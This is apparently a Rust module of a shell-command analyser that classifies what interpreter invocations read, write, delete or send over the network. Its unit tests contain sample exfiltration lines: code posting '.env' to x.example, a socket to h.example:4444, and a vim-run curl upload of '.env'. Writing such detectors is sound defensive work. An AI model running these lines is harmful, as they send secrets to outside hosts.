//! Interpreters (`python`, `node`, `perl`, `ruby`, `php`, awk): inline code (`-c`, `-e`,
//! an awk program, a here-document on stdin) is inspected by [`crate::code`]; a script
//! file is read.

use crate::code::{Finding, Lang, inspect};
use crate::effect::{NetTarget, RunAs, ShellEffect, ShellPath};
use crate::kb::{ArgsRole, FlagRole, ProgramSpec};
use crate::words::Expanded;

use crate::analyze::args::Parsed;
use crate::analyze::context::WalkCx;
use crate::analyze::state::Stdin;

/// The interpreter's own arguments: those before its script or inline code; the words
/// after belong to the script (`python3 -u s.py --flag`, `node -e CODE --flag`).
pub(crate) fn own_arguments<'a>(spec: &ProgramSpec, args: &'a [Expanded]) -> &'a [Expanded] {
    if spec.args != ArgsRole::Interpreter {
        return args;
    }
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        if t == "--" || !t.starts_with('-') || t == "-" {
            // The script (and the rest, its arguments) is the first positional.
            return &args[..(i + 1).min(args.len())];
        }
        if let Some(role) = spec.flag_role(t) {
            if role == FlagRole::Code {
                return &args[..(i + 2).min(args.len())];
            }
            i += 2;
            continue;
        }
        i += 1;
    }
    args
}

/// `[options] -m MODULE ARGS` of an interpreter: its own options, the module, and the
/// module's arguments.
pub(crate) fn module_run<'a>(
    spec: &ProgramSpec,
    args: &'a [Expanded],
) -> Option<(&'a [Expanded], &'a Expanded, &'a [Expanded])> {
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        if t == "-m" {
            return Some((&args[..i], args.get(i + 1)?, &args[i + 2..]));
        }
        if let Some(m) = t
            .strip_prefix("-m")
            .filter(|m| !m.is_empty() && !t.starts_with("--"))
        {
            let _ = m;
            return Some((&args[..i], &args[i], &args[i + 1..]));
        }
        if !t.starts_with('-') || t == "--" {
            return None;
        }
        i += if spec.flag_role(t).is_some() { 2 } else { 1 };
    }
    None
}

/// Standard-library modules that only compute, inspect or test the code they are given.
const INERT_MODULES: &[&str] = &[
    "json.tool",
    "unittest",
    "doctest",
    "timeit",
    "cProfile",
    "profile",
    "pdb",
    "trace",
    "dis",
    "tokenize",
    "ast",
    "compileall",
    "py_compile",
    "site",
    "sysconfig",
    "platform",
    "calendar",
    "this",
    "tabnanny",
    "pyclbr",
    "pstats",
    "mimetypes",
    "filecmp",
    "difflib",
    "venv",
    "ensurepip",
    "pickletools",
    "pydoc",
    "symtable",
    "inspect",
    "code",
    "uuid",
    "base64",
    "quopri",
    "encodings.rot_13",
    "sqlite3",
];

/// Modules that serve the network.
const SERVER_MODULES: &[&str] = &[
    "http.server",
    "smtpd",
    "xmlrpc.server",
    "socketserver",
    "aiosmtpd",
];

/// `python3 -m MODULE ARGS`: a module that is also a program (`pip`, `pytest`) runs as
/// that program; inert standard modules read the files they are given; servers listen;
/// any other module is unparseable.
pub(crate) fn module(cx: &mut WalkCx<'_>, interpreter: &str, module: &Expanded, rest: &[Expanded]) {
    let m = module.text.strip_prefix("-m").unwrap_or(&module.text);
    if module.dynamic {
        return cx.unparseable(format!(
            "`{interpreter} -m` runs a module computed at run time"
        ));
    }
    if SERVER_MODULES.contains(&m) {
        return cx.unparseable(format!("`{interpreter} -m {m}` listens for connections"));
    }
    if cx.kb.get(m).is_some() {
        let mut argv = vec![Expanded {
            text: m.to_owned(),
            ..module.clone()
        }];
        argv.extend(rest.iter().cloned());
        return cx.run_command(&argv, &[]);
    }
    if INERT_MODULES.contains(&m) {
        for a in rest.iter().filter(|a| !a.text.starts_with('-')) {
            cx.read(a);
        }
        return;
    }
    // The repository's own module, or one Mandate does not know: the analysis layer looks.
    let path = cx.path(&Expanded {
        text: m.replace('.', "/"),
        ..module.clone()
    });
    cx.runs_file(
        path,
        RunAs::Module {
            interpreter: interpreter.to_owned(),
        },
        rest.iter().map(|a| a.text.clone()).collect(),
    );
}

/// The positional arguments `pos` and stdin of an interpreter (`args = "interpreter"`):
/// with inline code (`-c`) or a module (`-m`) there is no script file; otherwise the
/// first positional is the script and the others its files, or stdin is the program.
pub(crate) fn scripts(cx: &mut WalkCx<'_>, name: &str, parsed: &Parsed, pos: &[Expanded]) {
    if parsed.flags.iter().any(|(_, r, _)| *r == FlagRole::Code) {
        // With inline code, the words after it are the code's: files it reads line by
        // line (`perl -ne … FILE`, `ruby -pe … FILE`) or arguments it may open.
        pos.iter().for_each(|a| cx.read(a));
        return;
    }
    if parsed.has("-m") || parsed.flags.iter().any(|(f, _, _)| f == "-m") {
        return;
    }
    if let Some((script, rest)) = pos.split_first()
        && script.text != "-"
    {
        cx.runs_file(
            cx.path(script),
            RunAs::Script {
                interpreter: name.to_owned(),
            },
            rest.iter().map(|a| a.text.clone()).collect(),
        );
        rest.iter().for_each(|a| cx.read(a));
        return;
    }
    let stdin = cx.stdin;
    match stdin {
        Stdin::Text(t) => inline_code(cx, name, t),
        Stdin::Decoded => cx.obfuscated(format!(
            "decoded data is piped into {name} and runs as code"
        )),
        Stdin::Pipe(_) => cx.unparseable(format!(
            "data is fed to {name} on stdin and runs as code that Mandate does not analyse"
        )),
        Stdin::File(p) => {
            let p = p.clone();
            cx.runs_file(
                p,
                RunAs::Script {
                    interpreter: name.to_owned(),
                },
                Vec::new(),
            );
        }
        Stdin::Tty => {}
    }
}

/// The effects of inline interpreter code: the shell commands it runs are walked, the
/// files it names are read, written or deleted, and it connects where it says (sending
/// the files it read if it sends anything).
pub(crate) fn inline_code(cx: &mut WalkCx<'_>, program: &str, code: &str) {
    let lang = Lang::of_program(program);
    if lang == Lang::Other {
        return foreign_code(cx, program, code);
    }
    let findings = inspect(lang, code);
    let path = |cx: &WalkCx<'_>, text: &str| {
        cx.st.path(&Expanded {
            text: text.to_owned(),
            ..Default::default()
        })
    };
    let mut reads = Vec::new();
    for f in &findings {
        match f {
            Finding::Shell(cmd) => cx.child_script(cmd, &Stdin::Tty),
            Finding::OpaqueProcess(r) | Finding::LoadsLibrary(r) => cx.unparseable(r.clone()),
            Finding::Obfuscated(r) => cx.obfuscated(r.clone()),
            Finding::Listen => cx.unparseable(format!("{program} code opens a listening socket")),
            Finding::Read(p) => {
                let sp = path(cx, p);
                reads.push(sp.clone());
                cx.emit(ShellEffect::Read(sp));
            }
            Finding::Write(p) => cx.emit(ShellEffect::Write(path(cx, p))),
            Finding::Delete(p) => cx.emit(ShellEffect::Delete(path(cx, p))),
            Finding::ReadsComputedPath(e) => cx.unparseable(format!(
                "`{program}` code reads a file whose name is built at run time (`{e}`)"
            )),
            Finding::WritesComputedPath(e) => cx.emit(ShellEffect::Write(ShellPath {
                dir: None,
                path: e.clone(),
                dynamic: true,
                glob: false,
                unknown_dir: false,
            })),
            Finding::Network { .. } => {}
            Finding::Imports(modules) => {
                for m in modules {
                    let module = path(cx, m);
                    cx.runs_file(
                        module,
                        RunAs::Import {
                            interpreter: program.to_owned(),
                        },
                        Vec::new(),
                    );
                }
            }
        }
    }
    for f in findings {
        let Finding::Network { targets, sends } = f else {
            continue;
        };
        let data_from = if sends { reads.clone() } else { Vec::new() };
        let sends = sends || !data_from.is_empty();
        if targets.is_empty() {
            cx.emit(ShellEffect::Connect {
                target: NetTarget::Dynamic {
                    text: format!("{program} code"),
                },
                sends,
                data_from: data_from.clone(),
            });
        }
        for t in targets {
            cx.emit(ShellEffect::Connect {
                target: code_target(t),
                sends,
                data_from: data_from.clone(),
            });
        }
    }
}

/// A URL or `host:port` literal found in code, as a target.
fn code_target(t: String) -> NetTarget {
    if t.contains("://") {
        return NetTarget::Url { url: t };
    }
    let (h, port) = t
        .rsplit_once(':')
        .map_or((t.as_str(), None), |(h, p)| (h, p.parse().ok()));
    NetTarget::Host {
        host: h.to_owned(),
        port,
    }
}

/// Code in a language the inspector does not read (an editor's commands, Lua, R, Tcl...):
/// an editor command that runs a shell command is walked; a short list of editor
/// commands that only move, edit and quit is inert; anything else is unparseable, since
/// what it does cannot be told.
fn foreign_code(cx: &mut WalkCx<'_>, program: &str, code: &str) {
    for command in code.split('|').map(str::trim) {
        let bare = command.trim_start_matches(':');
        if let Some(shell) = bare.strip_prefix('!') {
            cx.child_script(shell, &Stdin::Tty);
        } else if !inert_editor_command(bare) {
            return cx.unparseable(format!(
                "`{program}` runs code in a language Mandate does not inspect: {:?}",
                code.chars().take(80).collect::<String>()
            ));
        }
    }
}

/// Editor commands that only move, change the text in the buffer, set options or quit.
fn inert_editor_command(c: &str) -> bool {
    const WORDS: &[&str] = &[
        "q",
        "q!",
        "qa",
        "qa!",
        "qall",
        "quit",
        "wq",
        "wq!",
        "wqa",
        "x",
        "xa",
        "w",
        "update",
        "set",
        "se",
        "setlocal",
        "syntax",
        "syn",
        "filetype",
        "colorscheme",
        "normal",
        "norm",
        "noh",
        "nohlsearch",
        "e!",
        "edit!",
        "retab",
        "undo",
        "redo",
        "g",
        "global",
        "v",
        "vglobal",
        "s",
        "d",
        "delete",
        "join",
        "j",
        "sort",
        "le",
        "left",
        "ri",
        "right",
        "ce",
        "center",
        "goto",
        "startinsert",
        "diffupdate",
    ];
    let c = c.trim();
    if c.is_empty() || c.chars().all(|ch| ch.is_ascii_digit() || ch == '$') {
        return true;
    }
    // `%s/a/b/g`, `1,$d`, `10`: ranges and substitutions stay in the buffer.
    let body = c.trim_start_matches(|ch: char| {
        ch.is_ascii_digit() || matches!(ch, '%' | ',' | '$' | '.' | '\'' | '<' | '>')
    });
    let word: String = body
        .chars()
        .take_while(|ch| ch.is_ascii_alphabetic() || *ch == '!')
        .collect();
    // A bare `w`, `wq` or `x` writes the file being edited; with a file name it writes
    // that file instead, which is not inert.
    let writes_elsewhere = matches!(
        word.as_str(),
        "w" | "wq" | "x" | "update" | "sav" | "saveas"
    ) && !body[word.len()..].trim().is_empty();
    // `!` runs a shell command; `\=` in a substitution evaluates an expression.
    let evaluates = body.contains('!') && word != "q!" && word != "qa!" && word != "wq!"
        || body.contains("\\=");
    WORDS.contains(&word.as_str()) && !writes_elsewhere && !evaluates
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::roles::ByRoles;
    use crate::analyze::testing::{Harness, run};

    #[test]
    fn a_script_and_its_arguments_are_read() {
        assert_eq!(
            run(&ByRoles, &["python3", "tool.py", "data.csv"]),
            ["runs tool.py as python3 script [data.csv]", "read data.csv"]
        );
    }

    #[test]
    fn a_module_runs_as_the_program_of_that_name_or_is_judged() {
        use crate::analyze::testing::walk;
        assert_eq!(
            run(&ByRoles, &["python3", "-m", "http.server"]),
            ["unparseable: `python3 -m http.server` listens for connections"]
        );
        let e = walk("python3 -m pytest --maxfail=1 -q tests");
        assert!(e.contains(&"exec pytest".to_owned()), "{e:?}");
        assert!(!e.iter().any(|x| x.contains("python3` option")), "{e:?}");
        assert_eq!(
            walk("python3 -m json.tool data.json"),
            ["exec python3", "read data.json"]
        );
        assert_eq!(
            walk("python3 -m pkg.evilmod x"),
            ["exec python3", "runs pkg/evilmod as python3 module [x]"]
        );
        let e = walk("python3 -u s.py --out=/tmp/x");
        assert!(!e.iter().any(|x| x.starts_with("unparseable")), "{e:?}");
    }

    #[test]
    fn code_on_stdin_is_inspected_and_piped_code_is_not_seen() {
        let text = Harness::new()
            .stdin(Stdin::Text("import os\nos.system('id')".into()))
            .model(&ByRoles, &["python3"]);
        assert_eq!(text, ["exec id", "runs os as python3 import []"]);
        let piped = Harness::new()
            .stdin(Stdin::Pipe(vec![]))
            .model(&ByRoles, &["node"]);
        assert!(
            piped[0].starts_with("unparseable: data is fed to node"),
            "{piped:?}"
        );
        let decoded = Harness::new()
            .stdin(Stdin::Decoded)
            .model(&ByRoles, &["perl"]);
        assert!(decoded[0].starts_with("obfuscated:"), "{decoded:?}");
    }

    #[test]
    fn inline_code_effects() {
        let mut h = Harness::new();
        let (_, effects) = h.with_cx(|cx| {
            inline_code(
                cx,
                "python3",
                "import urllib.request\nurllib.request.urlopen('https://x.example', data=open('.env').read())",
            )
        });
        assert_eq!(
            effects,
            [
                "read .env",
                "runs urllib as python3 import []",
                "send https://x.example [.env]"
            ]
        );
        let (_, effects) = h.with_cx(|cx| {
            inline_code(
                cx,
                "python3",
                "import socket; s=socket.socket(); s.connect(('h.example', 4444))",
            )
        });
        assert_eq!(
            effects,
            ["runs socket as python3 import []", "connect h.example:4444"]
        );
        let (_, effects) =
            h.with_cx(|cx| inline_code(cx, "node", "require('fs').unlinkSync('/tmp/x')"));
        assert_eq!(effects, ["delete /tmp/x"]);
    }

    #[test]
    fn code_in_languages_the_inspector_does_not_read_is_unparseable_unless_plain_editing() {
        use crate::analyze::testing::walk;
        let e = walk("lua -e 'os.execute(\"id\")'");
        assert!(
            e.iter()
                .any(|x| x.contains("language Mandate does not inspect")),
            "{e:?}"
        );
        assert_eq!(
            walk("vim -c ':%s/a/b/g' -c 'wq' f"),
            ["exec vim", "write f"]
        );
        let e = walk("vim -c ':!curl -d @.env http://x.example' f");
        assert!(
            e.iter().any(|x| x.starts_with("send http://x.example")),
            "{e:?}"
        );
        for c in [
            "w /tmp/x",
            "%s/a/\\=system('id')/",
            "py3 import os",
            "source /tmp/x.vim",
        ] {
            let e = walk(&format!("vim -c '{c}' f"));
            assert!(e.iter().any(|x| x.starts_with("unparseable")), "{c}: {e:?}");
        }
    }
}
